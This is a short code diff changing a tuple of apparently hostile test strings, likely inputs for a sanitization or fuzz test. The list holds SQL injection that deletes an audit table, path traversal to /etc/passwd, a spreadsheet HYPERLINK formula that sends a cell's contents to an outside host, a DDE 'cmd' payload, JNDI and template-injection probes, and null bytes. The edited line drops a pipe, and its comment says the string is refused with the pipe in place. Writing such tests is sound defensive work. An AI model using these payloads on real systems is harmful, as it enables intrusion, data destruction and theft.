@@ -21,7 +21,7 @@ TEXTS = (
     "Robert'); DELETE FROM audit;--",
     "../../../../etc/passwd",
     '=HYPERLINK("http://x/?"&A1;"x")',
-    "+cmd|' /C calc'!A0",
+    "+cmd' /C calc'!A0",  # with a | it is refused when the claim is made
     "@SUM(1+1)",
     "{{7*7}} ${jndi:ldap://x} %s %n {0}",
     "\\x00 \\u0000 \\n",
